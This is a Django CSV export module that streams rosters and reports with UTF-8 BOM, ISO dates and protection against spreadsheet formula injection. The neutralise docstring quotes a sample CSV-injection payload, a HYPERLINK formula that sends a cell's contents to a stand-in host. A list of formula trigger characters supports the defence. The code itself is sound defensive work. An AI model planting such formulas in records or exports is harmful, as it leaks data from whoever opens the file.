"""The one CSV export module: every roster, sign-in list and report the office downloads goes through it.

An export is a queryset and a list of columns::

    from leaderdev.exports import Column, export_response

    ROSTER_COLUMNS = [
        Column("Employee ID", "person__employee_id"),
        Column("Last name", "person__last_name"),
        Column("Status", "status", choices=EnrollmentStatus),       # the label, not the stored value
        Column("Enrolled on", "created_at"),                         # ISO 8601 in the district's zone
        Column("Name", value=lambda row: f"{row['person__first_name']} {row['person__last_name']}",
               uses=["person__first_name"]),
    ]

    def roster_export(request, pk):
        ...  # permission first, then the same FilterSet as the page
        return export_response(roster_filter.qs, ROSTER_COLUMNS, f"roster {offering.name}")

and the same columns become an admin action with ``actions = [export_action(ROSTER_COLUMNS, "roster")]``.

What every export gets, so no app has to remember it:

- **Constant memory.** The rows come from ONE query, ``.values_list(...).iterator(chunk_size=...)``
  (a server-side cursor on Postgres), and leave as a ``StreamingHttpResponse`` while they are read: a
  50,000-row attendance file costs the same memory as a 5-row one, and no row costs a query of its own.
  Columns read field paths ("person__school__name"), so the joins happen in that one query.
- **Opens cleanly in Excel.** UTF-8 with a byte-order mark (without it Excel reads "José" as "JosÃ©"),
  CRLF line endings and quoting from the ``csv`` module, dates as ISO ``YYYY-MM-DD``, date-times as ISO
  8601 in the district's zone (``settings.TIME_ZONE``) with their offset, booleans as "yes"/"no", an
  empty cell for a missing value.
- **Safe against formula injection** (see ``neutralise``): a name typed as ``=HYPERLINK(...)`` arrives
  as text, never as a formula that runs on a coordinator's machine.
- **Deterministic order**: the caller's queryset order (end it with a unique key, e.g. ``"pk"``, so ties
  cannot reorder between two downloads); an unordered queryset is ordered by primary key.

Field paths should be single-valued (foreign keys, one-to-ones, annotations): a path through a
many-to-many or reverse foreign key yields one line per related row, exactly as ``values_list`` does.
"""

import csv
import dataclasses
import datetime
import decimal
import re
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from typing import Any

from django.contrib import admin
from django.db.models import Choices, QuerySet
from django.http import HttpRequest, StreamingHttpResponse
from django.utils import timezone
from django.utils.cache import patch_cache_control
from django.utils.http import content_disposition_header
from django.utils.text import slugify

#: Rows fetched from the database per round trip; big enough to be fast, small enough to stay flat.
DEFAULT_CHUNK_SIZE = 2000
#: Characters of CSV gathered before they are handed to the server: one write per ~32 KB, not per row.
STREAM_BUFFER_CHARS = 32 * 1024
BOM = "\ufeff"

# OWASP "CSV Injection": spreadsheet programs treat a cell starting with one of these as a formula (or,
# for tab, carriage return and line feed, strip them and read what follows as one).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def neutralise(value: str) -> str:
    """Make a text cell safe to open in a spreadsheet, as OWASP's CSV Injection page advises.

    Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-`` or ``@``
    as a formula, and skip a leading tab, CR or LF before doing so. Anyone who can type into a record
    that is later exported (a last name, a session note, an application answer) could then plant
    ``=HYPERLINK("https://evil.example/?"&A2,"Click")`` or a DDE payload that runs on the machine of the
    coordinator who opens the roster. Prefixing the cell with a single quote makes the spreadsheet show
    it as text; the quote stays visible, which is the price OWASP accepts for safety.

    This applies to every *text* cell, including text that looks like a number ("-3", "+1 617 555 0100"):
    telling a harmless number from a formula by pattern is exactly where injection filters go wrong.
    Real numbers never reach this function: ``format_cell`` writes ints and decimals from the database
    as they are, since a value the database holds as a number cannot carry a formula.
    """
    if value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def format_cell(value: Any) -> str:
    """One value as a cell: None empty, yes/no, ISO dates and times, numbers as they are, text neutralised.

    Date-times are shown in the district's zone (``settings.TIME_ZONE``) with their UTC offset and to
    the second, e.g. ``2026-09-01T08:30:00-04:00``.
    """
    if value is None:
        return ""
    if type(value) is str:  # the common case first: exports are mostly text
        return neutralise(value)
    if isinstance(value, bool):  # before int: True is an int to Python
        return "yes" if value else "no"
    if isinstance(value, datetime.datetime):
        if timezone.is_aware(value):
            value = timezone.localtime(value)
        return value.isoformat(timespec="seconds")
    if isinstance(value, datetime.date | datetime.time):
        return value.isoformat()
    if isinstance(value, decimal.Decimal):
        return format(value, "f")  # never scientific notation such as 1E+2
    if isinstance(value, int | float):
        return str(value)
    return neutralise(str(value))


@dataclasses.dataclass(frozen=True)
class Column:
    """One column of an export: a header and either a field path or a computation on the row.

    ``field``    a path as ``values_list`` takes it: "last_name", "person__school__name", an annotation.
    ``value``    ``value(row) -> Any`` for a computed cell; ``row`` maps every fetched field path to its
                 value. List the paths it reads that no other column shows in ``uses``. It must not
                 query the database: fetch what it needs once, before the export, and close over it.
    ``choices``  a ``TextChoices`` class (or ``(value, label)`` pairs): write the label, not the stored
                 value; a value with no label is written as stored.
    """

    header: str
    field: str | None = None
    value: Callable[[Mapping[str, Any]], Any] | None = None
    choices: type[Choices] | Iterable[tuple[Any, Any]] | None = None
    uses: Sequence[str] = ()
    labels: Mapping[Any, str] = dataclasses.field(init=False, repr=False, compare=False)

    def __post_init__(self):
        if (self.field is None) == (self.value is None):
            raise ValueError(f"Column {self.header!r} needs exactly one of `field` and `value`.")
        pairs = self.choices or ()
        if isinstance(pairs, type) and issubclass(pairs, Choices):
            pairs = pairs.choices
        object.__setattr__(self, "labels", {stored: str(label) for stored, label in pairs})

    @property
    def fields(self) -> tuple[str, ...]:
        """The field paths this column reads."""
        return (self.field, *self.uses) if self.field else tuple(self.uses)

    def cell(self, row: Mapping[str, Any]) -> str:
        raw = row[self.field] if self.field else self.value(row)
        if self.labels:
            raw = self.labels.get(raw, raw)
        return format_cell(raw)


def csv_rows(
    queryset: QuerySet, columns: Sequence[Column], chunk_size: int = DEFAULT_CHUNK_SIZE
) -> Iterator[list[str]]:
    """The formatted cells of every row of `queryset`, read lazily in ONE query, in the queryset's order.

    Nothing is queried until the first row is asked for, so a view can return the response before the
    database is read. ``select_related``/``prefetch_related`` are dropped: the columns' field paths make
    the joins, and a prefetch would be a second query (and cannot stream).
    """
    # values_list() with no names would fetch every field; a file of computed columns needs only the rows.
    fields = list(dict.fromkeys(path for column in columns for path in column.fields)) or ["pk"]
    if not queryset.ordered:
        queryset = queryset.order_by("pk")
    values = queryset.prefetch_related(None).values_list(*fields).iterator(chunk_size=chunk_size)
    if all(column.field and not column.labels for column in columns) and len(fields) == len(columns):
        # Plain fields only, one per column in order: format the tuple as it comes, no dict per row.
        for values_row in values:
            yield [format_cell(value) for value in values_row]
        return
    for values_row in values:
        row = dict(zip(fields, values_row, strict=True))
        yield [column.cell(row) for column in columns]


class _Echo:
    """The pseudo-buffer from Django's "Streaming large CSV files" how-to: csv.writer writes, we yield."""

    def write(self, value: str) -> str:
        return value


def _csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
    writer = csv.writer(_Echo())  # the default dialect: minimal quoting, CRLF as Excel expects
    pending = [BOM, writer.writerow([neutralise(str(title)) for title in header])]
    size = 0
    for row in rows:
        line = writer.writerow(row)
        pending.append(line)
        size += len(line)
        if size >= STREAM_BUFFER_CHARS:
            yield "".join(pending)
            pending, size = [], 0
    if pending:
        yield "".join(pending)


def export_filename(name: str) -> str:
    """A download name safe on every system, always ending in .csv.

    "Roster: New Leader PD 2026/2027" -> "roster-new-leader-pd-2026-2027.csv"
    """
    stem = re.sub(r"\.csv$", "", name.strip(), flags=re.IGNORECASE)
    slug = slugify(re.sub(r"[\W_]+", " ", stem))[:100].strip("-")
    return f"{slug or 'export'}.csv"


def stream_csv(filename: str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> StreamingHttpResponse:
    """A streamed CSV download: UTF-8 with BOM, `header` then `rows`, written as they are produced.

    `rows` should already be formatted (``csv_rows`` does that); any iterable works, including a
    generator that never ends. Exports hold people's details, so browsers and proxies must not keep them.
    """
    response = StreamingHttpResponse(_csv_text(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = content_disposition_header(True, export_filename(filename))
    patch_cache_control(response, private=True, no_store=True)
    return response


def export_response(
    queryset: QuerySet, columns: Sequence[Column], filename: str, chunk_size: int = DEFAULT_CHUNK_SIZE
) -> StreamingHttpResponse:
    """Stream `queryset` as a CSV file of `columns`: what an export view returns."""
    return stream_csv(
        filename, [column.header for column in columns], csv_rows(queryset, columns, chunk_size)
    )


ColumnsOrFactory = Sequence[Column] | Callable[[HttpRequest], Sequence[Column]]


def export_action(
    columns: ColumnsOrFactory, filename_prefix: str, description: str = "Export selected rows as CSV"
):
    """An admin action that downloads the selected rows (in the changelist's order) as CSV.

    `columns` is a list of columns, or ``columns(request)`` when they depend on something read once per
    export (the current school year, say). The file is named ``<prefix>-<today>.csv``; the action needs
    the view permission on the model, like the changelist itself.
    """

    @admin.action(description=description, permissions=["view"])
    def action(modeladmin, request, queryset):
        chosen = columns(request) if callable(columns) else columns
        today = timezone.localdate().isoformat()
        return export_response(queryset, chosen, f"{filename_prefix}-{today}")

    action.__name__ = f"export_{slugify(filename_prefix).replace('-', '_')}_csv"
    return action
